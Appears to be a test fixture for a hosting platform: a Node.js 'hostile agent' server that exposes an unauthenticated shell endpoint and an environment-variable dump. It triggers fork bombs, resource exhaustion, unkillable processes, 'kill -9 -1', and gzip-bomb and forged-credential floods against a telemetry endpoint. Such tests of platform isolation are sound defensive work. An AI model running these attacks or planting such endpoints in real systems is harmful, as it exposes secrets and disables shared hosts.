// The hostile agent: does what it is asked to over HTTP and tells what it got.
import { spawn } from 'node:child_process';
import dgram from 'node:dgram';
import { closeSync, ftruncateSync, mkdirSync, openSync, writeFileSync, writeSync } from 'node:fs';
import http from 'node:http';
import net from 'node:net';
import { gzipSync } from 'node:zlib';

const state = {};
http.createServer(answer).listen(Number(process.env.PORT), '0.0.0.0', () => console.log('listening'));

async function answer(request, response) {
  const url = new URL(request.url, 'http://agent');
  const asked = Object.fromEntries(url.searchParams);
  const send = (value) => response.end(JSON.stringify(value));
  if (url.pathname === '/stream') return stream(response);
  if (url.pathname === '/env') return send(process.env);
  if (url.pathname === '/state') return send(state);
  if (url.pathname === '/sh') return send(await shell(asked.command));
  if (url.pathname === '/dial') return send(await Promise.all(JSON.parse(asked.targets).map(([host, port]) => dial(host, port))));
  if (url.pathname === '/datagrams') return send(await Promise.all(JSON.parse(asked.hosts).map(datagram)));
  if (url.pathname === '/attack') {
    send({ started: asked.kind });
    response.on('finish', () => attacks[asked.kind](asked));
    return;
  }
  send({ agent: 'hostile', pid: process.pid });
}

function stream(response) {
  response.writeHead(200, { 'content-type': 'text/event-stream' });
  setInterval(() => response.write('data: tick\n\n'), 100);
}

function dial(host, port) {
  return new Promise((resolve) => {
    const socket = net.connect({ host, port, timeout: 2000 });
    const done = (result) => (socket.destroy(), resolve(result));
    socket.on('connect', () => done('connected'));
    socket.on('timeout', () => done('timeout'));
    socket.on('error', (error) => done(error.code ?? error.message));
  });
}

function datagram(host) {
  return new Promise((resolve) => {
    const socket = dgram.createSocket(host.includes(':') ? 'udp6' : 'udp4');
    const done = (result) => (socket.close(), resolve(result));
    socket.on('error', (error) => done(error.code));
    socket.send('x', 5353, host, (error) => done(error ? error.code : 'sent'));
  });
}

function shell(command) {
  return new Promise((resolve) => {
    const child = spawn('/bin/sh', ['-c', command]);
    let output = '';
    for (const from of [child.stdout, child.stderr]) from.on('data', (text) => (output = (output + text).slice(-20_000)));
    child.on('close', (code, signal) => resolve({ code: code ?? signal, output }));
    child.on('error', (error) => resolve({ code: error.code, output: '' }));
  });
}

const background = (command) => spawn('/bin/sh', ['-c', command], { stdio: 'inherit', detached: true }).on('error', () => undefined);

const attacks = {
  fork: () => background('bomb() { bomb | bomb & }; bomb; while :; do bomb; done'),
  memory: () => {
    const kept = [];
    setInterval(() => kept.push(Buffer.alloc(16 * 1024 * 1024, 1)), 1);
  },
  heap: () => {
    const kept = [];
    for (;;) kept.push(Array.from({ length: 1000 }, (_, n) => ({ n })));
  },
  cpu: () => {
    for (let n = 0; n < 16; n++) background('while :; do :; done');
  },
  disk: () => background('cd /tmp; i=0; while :; do i=$((i+1)); head -c 8000000 /dev/zero > f$i; done'),
  inodes: () => {
    mkdirSync('/tmp/many', { recursive: true });
    let made = 0;
    const more = () => {
      for (let n = 0; n < 2000; n++) closeSync(openSync(`/tmp/many/${made++}`, 'w'));
      setImmediate(more);
    };
    more();
  },
  sparse: () => {
    const file = openSync('/tmp/sparse', 'w');
    state.sparse = attempt(() => ftruncateSync(file, 2 ** 40));
    state.tail = attempt(() => writeSync(file, 'x', 2 ** 40));
  },
  descriptors: () => {
    let open = 0;
    state.descriptors = attempt(() => {
      for (;;) {
        openSync('/dev/null');
        open++;
      }
    });
    state.open = open;
  },
  log: () => background('yes "$(head -c 900 /dev/zero | tr "\\0" x)"'),
  'binary log': () => background('cat /dev/urandom'),
  'log without lines': () => background('tr "\\0" x </dev/zero'),
  listeners: () => {
    state.listening = 0;
    for (let n = 0; n < 10_000; n++) {
      const server = net.createServer().on('error', (error) => (state.listeners = error.code));
      server.listen(10_000 + n, '0.0.0.0', () => state.listening++);
    }
  },
  stubborn: ({ word }) => {
    process.on('SIGTERM', () => console.log('not going'));
    background(
      `trap '' TERM HUP INT; (setsid sh -c "trap '' TERM; while :; do sleep 1; done # ${word}" &) & (setsid setsid sh -c "trap '' TERM; exec sleep 1000 # ${word}" &) &`,
    );
  },
  traces: () => {
    const [name, credential] = (process.env.OTEL_EXPORTER_OTLP_HEADERS ?? '=').split(/=(.*)/s);
    const seen = {};
    const send = async ([what, [body, headers]]) => {
      const given = { [name]: what === 'foreign' ? `dep_other.${credential.slice(-43)}` : credential, ...headers };
      const answer = await fetch(`${process.env.OTEL_EXPORTER_OTLP_ENDPOINT}/v1/traces`, { method: 'POST', headers: given, body }).then(
        ({ status }) => status,
        (error) => error.cause?.code ?? error.message,
      );
      seen[`${what} ${answer}`] = (seen[`${what} ${answer}`] ?? 0) + 1;
      state.traces = JSON.stringify(seen);
    };
    void (async () => {
      const sendings = Object.entries(wrongTraces());
      // One after the other, to see each answer; then all of them without end.
      for (const sending of sendings) await send(sending);
      for (const sending of [...sendings, ...sendings])
        void (async () => {
          for (;;) await send(sending);
        })();
    })();
  },
  'kill all': () => background('kill -9 -1'),
};

/** What no exporter sends: spans without end, one of 10 MiB, a bomb, and what is no OTLP. */
function wrongTraces() {
  const json = { 'content-type': 'application/json' };
  const now = `${Date.now()}000000`;
  const span = (n, more = {}) => ({
    traceId: n.toString(16).padStart(32, 'a'),
    spanId: 'b'.repeat(16),
    name: 'x',
    startTimeUnixNano: now,
    endTimeUnixNano: now,
    ...more,
  });
  const sent = (spans) => JSON.stringify({ resourceSpans: [{ scopeSpans: [{ spans }] }] });
  return {
    flood: [sent(Array.from({ length: 4000 }, (_, n) => span(Math.floor(Math.random() * 1e9) + n))), json],
    large: [sent([span(1, { name: 'x'.repeat(10 * 1024 ** 2) })]), json],
    bomb: [gzipSync(Buffer.alloc(32 * 1024 ** 2)), { ...json, 'content-encoding': 'gzip' }],
    invalid: [Buffer.alloc(100_000, 0xff), { 'content-type': 'application/x-protobuf' }],
    foreign: [sent([span(2)]), json],
  };
}

function attempt(work) {
  try {
    work();
    return 'done';
  } catch (error) {
    return error.code ?? error.message;
  }
}
writeFileSync('/tmp/mine', 'mine');
